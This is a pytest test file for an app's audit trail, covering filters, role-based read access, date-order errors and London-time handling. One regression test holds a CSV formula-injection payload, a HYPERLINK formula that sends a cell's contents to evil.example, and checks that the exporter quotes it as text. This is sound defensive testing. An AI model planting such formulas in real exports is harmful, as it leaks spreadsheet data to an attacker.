"""The audit trail read back with filters, only by the roles allowed to read it."""

from __future__ import annotations

import datetime as dt

import pandas as pd
import pytest

from raa_core import clock
from raa_core.access import AccessDenied, audit
from raa_core.errors import BadInput
from raa_core.requests import Viewer
from raa_core.store import appstate
from raa_core.store.appstate import AppState

ADMIN = Viewer(user="ad", role="admin")
HOS = Viewer(user="h", role="hos")


@pytest.fixture
def state(tmp_path) -> AppState:
    s = AppState(tmp_path / "appstate.sqlite3")
    appstate.record(s, actor="kim", role="council_analyst", action="sign_in", la_code=886)
    appstate.record(s, actor="kim", role="council_analyst", action="child_level_view", page="local_performance",
                    la_code=886, detail="A1 days of each child adopted, 2018-19")
    appstate.record(s, actor="pat", role="hos", action="child_level_view", page="local_performance", la_code=887)
    appstate.record(s, actor="eve", action="sign_in_failed", detail="unknown user")
    return s


def test_events_newest_first_with_every_column(state) -> None:
    df = audit.events(state, ADMIN)
    assert list(df.columns) == audit.COLUMNS
    assert list(df["actor"]) == ["eve", "pat", "kim", "kim"]
    assert df["at"].is_monotonic_decreasing
    assert str(df["la_code"].dtype) == "Int64"


def test_filters(state) -> None:
    views = audit.events(state, HOS, actions=["child_level_view"])
    assert list(zip(views["actor"], views["la_code"], strict=True)) == [("pat", 887), ("kim", 886)]
    assert list(audit.events(state, HOS, la_codes=[886])["action"]) == ["child_level_view", "sign_in"]
    assert list(audit.events(state, HOS, actors=["eve"])["detail"]) == ["unknown user"]
    today = clock.today()  # London's day, as the page's date filter counts days
    assert len(audit.events(state, HOS, since=today, until=today)) == 4
    assert audit.events(state, HOS, until=today - dt.timedelta(days=1)).empty
    assert audit.events(state, HOS, since=today + dt.timedelta(days=1)).empty
    assert audit.actors(state) == ["eve", "kim", "pat"]


def test_a_first_day_after_the_last_is_refused_in_words(state) -> None:
    """The Audit page's From and To are typed: From after To says so, its days as the app writes days."""
    with pytest.raises(BadInput, match=r"^the first day, 2 Oct 2026, is after the last, 1 Oct 2026: give the "
                                       r"earlier day first$"):
        audit.events(state, HOS, since=dt.date(2026, 10, 2), until=dt.date(2026, 10, 1))
    assert len(audit.events(state, HOS, since=clock.today(), until=clock.today())) == 4  # one day: both ends


@pytest.mark.parametrize("role", ["board", "finance", "council_analyst"])
def test_only_admin_and_hos_read_the_audit(state, role) -> None:
    with pytest.raises(AccessDenied, match="may not read the audit trail"):
        audit.events(state, Viewer(user="x", role=role, la_code=886))


def test_every_recorded_action_has_a_label() -> None:
    assert {"sign_in", "sign_in_failed", "lock_out", "child_level_view", "export", "upload"} <= set(audit.ACTIONS)


def test_a_user_name_typed_as_a_formula_is_text_in_the_audit_csv(tmp_path) -> None:
    """Review: a failed sign-in with the user name =HYPERLINK(...) went into the Audit page's CSV raw, a live
    formula when the administrator opened it. The one CSV writer quotes it as text."""
    import csv
    import io

    from raa_core.presentation import export
    from raa_core.requests import Viewer
    from raa_core.store import appstate
    from raa_core.store.appstate import AppState

    state = AppState(tmp_path / "appstate.sqlite3")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    appstate.record(state, actor=evil, action="sign_in_failed", page="sign-in")
    events = audit.events(state, Viewer(user="admin", role="admin", la_code=None))
    rows = list(csv.reader(io.StringIO(export.table_csv(events).decode("utf-8-sig"))))
    actor = rows[0].index("actor")
    assert rows[1][actor] == "'" + evil


def test_times_and_days_are_londons(tmp_path) -> None:
    """The ingest history showed London time and the Audit page UTC, and its date
    filter counted UTC days. An event at 23:30 UTC on 30 June is 00:30 on 1 July in London."""
    s = AppState(tmp_path / "appstate.sqlite3")
    with s.connect() as con:
        con.execute("INSERT INTO audit (at, actor, role, action, page, la_code, detail) "
                    "VALUES ('2026-06-30T23:30:00.000000', 'kim', 'hos', 'sign_in', NULL, NULL, NULL)")
    july = dt.date(2026, 7, 1)
    [at] = audit.events(s, HOS, since=july, until=july)["at"]
    assert at == pd.Timestamp(2026, 7, 1, 0, 30)
    assert audit.events(s, HOS, until=dt.date(2026, 6, 30)).empty
    assert clock.utc_start_of(july) == dt.datetime(2026, 6, 30, 23, 0)
    assert clock.utc_start_of(dt.date(2026, 12, 1)) == dt.datetime(2026, 12, 1, 0, 0)
